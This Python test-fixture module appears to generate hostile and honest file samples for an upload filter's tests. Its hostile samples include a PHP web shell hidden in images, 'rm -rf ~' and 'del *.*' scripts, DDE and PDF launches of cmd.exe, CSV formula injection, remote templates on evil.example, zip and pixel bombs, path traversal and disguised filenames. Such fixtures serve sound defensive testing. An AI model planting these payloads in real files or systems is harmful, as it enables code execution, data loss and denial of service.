"""Files that must not get in, each made here, and their honest neighbours.

Where a name and the content disagree, that is the point.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.factories.files import bomb_pdf, encrypted_pdf, image_file, text_pdf

if TYPE_CHECKING:
    from collections.abc import Callable

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def package(
    entries: dict[str, bytes | str], stored: tuple[str, ...] = (), comment: bytes = b""
) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=kind)
        archive.comment = comment
    return output.getvalue()


def relationships(*rows: tuple[str, str, bool]) -> str:
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE_RELS}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if is_external else "/>")
        for n, (kind, target, is_external) in enumerate(rows)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{inner}</Relationships>'


def docx(  # noqa: PLR0917 (named at each call but the first)
    more: dict[str, bytes | str] | None = None,
    main: str = MAIN,
    document: str = "<w:document><w:body><w:t>Bonjour</w:t></w:body></w:document>",
    rels: tuple[tuple[str, str, bool], ...] = (),
    types: str = "",
    comment: bytes = b"",
) -> bytes:
    return package(
        {
            "[Content_Types].xml": (
                f'<?xml version="1.0"?><Types xmlns="{TYPES}">'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
            ),
            "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
            "word/document.xml": f'<?xml version="1.0"?>{document}',
            "word/_rels/document.xml.rels": relationships(*rels),
            **(more or {}),
        },
        comment=comment,
    )


def odt(more: dict[str, bytes | str] | None = None, content: str = "Bonjour") -> bytes:
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content>{content}</office:document-content>",
            "META-INF/manifest.xml": "<manifest:manifest/>",
            **(more or {}),
        },
        stored=("mimetype",),
    )


def pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf().read())))
    if change:
        change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def action(**entries: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value)
            if value.startswith("/")
            else TextStringObject(value)
            for key, value in entries.items()
        }
    )


def on_open(entry: DictionaryObject) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(entry)

    return pdf(change)


def hidden_name() -> bytes:
    """A PDF that writes /JavaScript with the escapes that readers undo."""
    content = on_open(action(S="/JavaScript", JS="app.alert(1)"))
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def form_script() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): action(S="/JavaScript", JS="app.alert(1)")}
        )

    return pdf(change)


def attachment(name: str, content: bytes) -> bytes:
    return pdf(lambda writer: writer.add_attachment(name, content) and None)


def zip_bomb(megabytes: int = 200) -> bytes:
    return docx({"word/media/blank.xml": b"\x20" * (megabytes << 20)})


def overlapping_bomb() -> bytes:
    """Entries of the central directory that all point at the same bytes."""
    once = docx({"word/media/a.xml": b"a" * 4096})
    at = once.rindex(b"PK\x05\x06")
    start = struct.unpack("<L", once[at + 16 : at + 20])[0]
    directory = once[start:at]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    twin = last.replace(b"media/a.xml", b"media/b.xml")
    count = struct.unpack("<H", once[at + 10 : at + 12])[0] + 1
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory + twin), start, 0
    )
    return once[:start] + directory + twin + end


def lying_size() -> bytes:
    """A zip whose directory declares a large entry as small."""
    content = bytearray(docx({"word/media/blank.xml": b"\x20" * (3 << 20)}))
    real = struct.pack("<L", 3 << 20)
    return bytes(content).replace(real, struct.pack("<L", 10))


def nested(depth: int = 4) -> bytes:
    content = docx()
    for _ in range(depth):
        content = docx({"word/embeddings/sheet.docx": content})
    return content


def encrypted_zip() -> bytes:
    """A package with the bit of encryption on each entry."""
    content = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def picture(kind: str = "JPEG", **options: object) -> bytes:
    return bytes(image_file(kind=kind, size=(64, 48), **options).read())


def pixel_bomb() -> bytes:
    """A PNG of a few kilobytes that declares ten thousand million pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))
        )

    header = struct.pack(">LLBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 100_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def frame_bomb() -> bytes:
    output = io.BytesIO()
    frames = [Image.new("P", (2000, 2000), n) for n in range(60)]
    frames[0].save(output, "GIF", save_all=True, append_images=frames[1:])
    return output.getvalue()


def ole(marker: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + marker + b"\x00" * 512


def tar() -> bytes:
    header = bytearray(512)
    header[:8] = b"note.txt"
    header[257:262] = b"ustar"
    return bytes(header)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAR = {"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe0000"}

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # Programs, under names that say otherwise.
    "windows program": ("rapport.pdf", lambda: PROGRAM, "executable"),
    "windows program as a picture": ("photo.jpg", lambda: PROGRAM, "executable"),
    "linux program": ("rapport.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 99, "executable"),
    "mac program": ("a.docx", lambda: b"\xcf\xfa\xed\xfe" + b"\0" * 99, "executable"),
    "java class": ("a.pdf", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 99, "executable"),
    "android bytecode": ("a.pdf", lambda: b"dex\n035\0" + b"\0" * 99, "executable"),
    "web assembly": ("a.pdf", lambda: b"\0asm\x01\0\0\0" + b"\0" * 9, "executable"),
    "shell script": ("liste.csv", lambda: b"#!/bin/sh\nrm -rf ~\n", "executable"),
    "windows shortcut": ("a.pdf", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99, "executable"),
    "flash": ("a.pdf", lambda: b"FWS\x09" + b"\0" * 99, "executable"),
    "installer": ("a.docx", lambda: ole(b"Installation Database"), "old_office"),
    # Archives.
    "zip": ("a.zip", lambda: package({"note.txt": "x"}), "archive"),
    "zip as a document": ("a.docx", lambda: package({"note.txt": "x"}), "archive"),
    "jar as a document": ("a.docx", lambda: package(JAR), "archive"),
    "jar inside a document": ("a.docx", lambda: docx({**JAR}), "executable"),
    "android package": ("a.docx", lambda: docx({"AndroidManifest.xml": "x"}), "executable"),
    "rar": ("a.pdf", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 99, "archive"),
    "7z": ("a.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, "archive"),
    "gzip": ("a.csv", lambda: b"\x1f\x8b\x08" + b"\0" * 99, "archive"),
    "tar": ("a.txt", tar, "archive"),
    "cabinet": ("a.pdf", lambda: b"MSCF" + b"\0" * 99, "archive"),
    # Office files that do things.
    "macros": ("a.docx", lambda: docx({"word/vbaProject.bin": ole(b"VBA")}), "macros"),
    "macros by their type": ("a.docx", lambda: docx(main=MACRO_MAIN), "macros"),
    "macros under another name": ("a.docx", lambda: docx({"word/x.bin": ole(b"VBA")}), "macros"),
    "activex": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "embedded object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": "x"}), "macros"),
    "excel 4 macros": ("a.docx", lambda: docx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "remote template": (
        "a.docx",
        lambda: docx(rels=(("attachedTemplate", "https://evil.example/t.dotm", True),)),
        "external",
    ),
    "remote picture": (
        "a.docx",
        lambda: docx(rels=(("image", "https://evil.example/pixel.png", True),)),
        "external",
    ),
    "link that runs": (
        "a.docx",
        lambda: docx(rels=(("hyperlink", "javascript:alert(1)", True),)),
        "external",
    ),
    "link to a share": (
        "a.docx",
        lambda: docx(rels=(("hyperlink", "file://evil.example/share", True),)),
        "external",
    ),
    "dde": (
        "a.docx",
        lambda: docx(document="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"),
        "macros",
    ),
    "entity bomb": (
        "a.docx",
        lambda: docx(document='<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'),
        "active_office",
    ),
    "program inside": ("a.docx", lambda: docx({"word/media/image1.png": PROGRAM}), "executable"),
    "script inside": ("a.docx", lambda: docx({"word/run.js": "x"}), "macros"),
    "old office": ("a.doc", lambda: ole(b"Microsoft Word"), "old_office"),
    "encrypted office": ("a.docx", lambda: ole(b"EncryptedPackage"), "old_office"),
    "opendocument macros": ("a.odt", lambda: odt({"Basic/Standard/M.xml": "<x/>"}), "macros"),
    "opendocument script": ("a.odt", lambda: odt({"Scripts/python/a.py": "x"}), "macros"),
    "opendocument event": (
        "a.odt",
        lambda: odt(content='<script:event-listener xlink:href="x"/>'),
        "macros",
    ),
    "encrypted opendocument": (
        "a.odt",
        lambda: odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "encrypted",
    ),
    # Bombs, and archives that lie.
    "zip bomb": ("a.docx", zip_bomb, "bomb"),
    "overlapping zip bomb": ("a.docx", overlapping_bomb, "bomb"),
    "zip that lies of sizes": ("a.docx", lying_size, "broken"),
    "nested": ("a.docx", nested, "nested"),
    "encrypted zip": ("a.docx", encrypted_zip, "encrypted"),
    "path that climbs out": ("a.docx", lambda: docx({"../../evil.xml": "<x/>"}), "broken"),
    "pixel bomb": ("a.png", pixel_bomb, "bomb"),
    "frame bomb": ("a.gif", frame_bomb, "bomb"),
    # PDF that do things.
    "pdf script": ("a.pdf", lambda: on_open(action(S="/JavaScript", JS="x")), "active_pdf"),
    "pdf script, escaped": ("a.pdf", hidden_name, "active_pdf"),
    "pdf script on a page": ("a.pdf", form_script, "active_pdf"),
    "pdf launch": ("a.pdf", lambda: on_open(action(S="/Launch", F="cmd.exe")), "active_pdf"),
    "pdf form sent": ("a.pdf", lambda: on_open(action(S="/SubmitForm", F="x")), "active_pdf"),
    "pdf to a share": ("a.pdf", lambda: on_open(action(S="/GoToR", F="x")), "active_pdf"),
    "pdf attachment": ("a.pdf", lambda: attachment("a.exe", PROGRAM), "active_pdf"),
    "pdf attachment, text": ("a.pdf", lambda: attachment("a.txt", b"x"), "active_pdf"),
    "encrypted pdf": ("a.pdf", lambda: bytes(encrypted_pdf().read()), "encrypted"),
    "truncated pdf": ("a.pdf", lambda: pdf()[:200], "broken"),
    # Two files in one.
    "pdf and zip": ("a.pdf", lambda: pdf() + package({"a.txt": "x"}), "polyglot"),
    "pdf and page": ("a.pdf", lambda: pdf() + b"<html><script>alert(1)</script>", "polyglot"),
    "pdf and program": ("a.pdf", lambda: pdf() + PROGRAM, "polyglot"),
    "pdf after text": ("a.pdf", lambda: b"<!-- x -->\n" + pdf(), "polyglot"),
    "picture and zip": ("a.jpg", lambda: picture() + package({"a.txt": "x"}), "polyglot"),
    "picture and php": ("a.jpg", lambda: picture() + b"<?php system($_GET[0]); ?>", "polyglot"),
    "php in a comment": (
        "a.jpg",
        lambda: picture(comment=b"<?php system($_GET[0]); ?>"),
        "polyglot",
    ),
    "picture and program": ("a.jpg", lambda: picture() + PROGRAM, "polyglot"),
    "picture and pdf": ("a.jpg", lambda: picture() + pdf(), "polyglot"),
    "gif and script": ("a.gif", lambda: picture("GIF") + b"*/=1;alert(1)//", "polyglot"),
    "gif and jar": ("a.gif", lambda: picture("GIF") + package(JAR), "polyglot"),
    "png and page": ("a.png", lambda: picture("PNG") + b"<script>1</script>", "polyglot"),
    "png and bytes": ("a.png", lambda: picture("PNG") + b"\x01\x02\x03", "polyglot"),
    "webp and more": ("a.webp", lambda: picture("WEBP") + b"more", "polyglot"),
    "document after a picture": ("a.docx", lambda: b"GIF89a" + docx(), "polyglot"),
    "document with a comment": ("a.docx", lambda: docx(comment=b"<?php"), "polyglot"),
    "text and zip": ("a.txt", lambda: b"bonjour\n" + package({"a": "x"}), "unknown"),
    "truncated picture": ("a.jpg", lambda: picture(quality=95)[:300], "broken"),
    # Pages and scripts.
    "svg": ("a.svg", lambda: SVG, "name"),
    "svg as a picture": ("a.png", lambda: SVG, "web"),
    "page as text": ("a.txt", lambda: b"<html><body onload=alert(1)>", "web"),
    "page as a table": ("a.csv", lambda: b"a;b\n<script>alert(1)</script>;c", "web"),
    "php as text": ("a.txt", lambda: b"<?php phpinfo(); ?>", "web"),
    "xml as text": ("a.txt", lambda: b'<?xml version="1.0"?><a/>', "web"),
    "javascript as text": ("a.txt", lambda: b"eval(atob('YWxlcnQ='))", "script"),
    "windows script as text": ("a.txt", lambda: b'CreateObject("WScript.Shell").Run', "script"),
    "batch as text": ("a.txt", lambda: b"@echo off\r\ndel *.*", "script"),
    "postscript": ("a.txt", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", "script"),
    "rich text": ("a.txt", lambda: b"{\\rtf1 {\\object\\objupdate}}", "script"),
    "antivirus test": (
        "a.txt",
        lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "script",
    ),
    "formula in a table": ("a.csv", lambda: b'nom;ville\n=HYPERLINK("x");Lille', "formula"),
    "command in a table": ("a.csv", lambda: b"nom\n\"@SUM(1+9)*cmd|' /C calc'!A0\"", "formula"),
    "utf-16 page": ("a.txt", lambda: "<script>".encode("utf-16"), "unknown"),
    "bytes": ("a.txt", lambda: bytes(range(256)), "unknown"),
    "nothing": ("a.pdf", lambda: b"", "empty"),
    # Names.
    "double extension": ("facture.exe.pdf", pdf, "name"),
    "extension after a picture": ("photo.jpg.php", picture, "name"),
    "turned name": ("facture\u202efdp.exe", pdf, "name"),
    "name with macros": ("a.docm", docx, "name"),
    "page by name": ("a.html", lambda: b"bonjour", "name"),
    "name with a null": ("a.php\x00.jpg", picture, "name"),
}
SLOW: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # The reader of its pages would unfold gigabytes; ours does not read pages, nor does a viewer
    # of ours. It gets in, and the reader of texts in core has limits of its own.
    "pdf bomb": ("a.pdf", lambda: bytes(bomb_pdf(300).read()), ""),
}

HONEST: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "pdf": ("Rapport 2026.pdf", pdf, "application/pdf"),
    "docx": (
        "a.docx",
        docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "docx with a link": (
        "a.docx",
        lambda: docx(rels=(("hyperlink", "https://www.example.org/", True),)),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "docx with a chart": (
        "a.docx",
        lambda: docx({"word/embeddings/Feuille.docx": docx()}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "odt": ("a.odt", odt, "application/vnd.oasis.opendocument.text"),
    "jpeg": ("photo.jpg", picture, "image/jpeg"),
    "jpeg called png": ("photo.png", picture, "image/jpeg"),
    "jpeg with a preview after it": (
        "photo.jpg",
        lambda: picture() + picture(),
        "image/jpeg",
    ),
    "png": ("a.png", lambda: picture("PNG"), "image/png"),
    "gif": ("a.gif", lambda: picture("GIF"), "image/gif"),
    "webp": ("a.webp", lambda: picture("WEBP"), "image/webp"),
    "heic": ("a.heic", lambda: picture("HEIF"), "image/jpeg"),
    "avif": ("a.avif", lambda: picture("AVIF"), "image/avif"),
    "csv": ("a.csv", "nom;ville;+33 3 20\nÉlan;Lille;-4,5".encode, "text/csv"),
    "csv of windows": ("a.csv", lambda: "nom;ville\nÉlan;Lille".encode("cp1252"), "text/csv"),
    "text": ("a.txt", "Bonjour, voici : l'été.".encode, "text/plain"),
}


def many_scans(count: int, side: int = 7000) -> bytes:
    """A progressive JPEG whose last scan, of some bytes, goes over all of its pixels again."""
    output = io.BytesIO()
    Image.new("L", (side, side), 128).save(output, "JPEG", progressive=True, quality=50)
    content = output.getvalue()
    scan = content.rfind(b"\xff\xc4")
    return content[:scan] + content[scan:-2] * count + content[-2:]
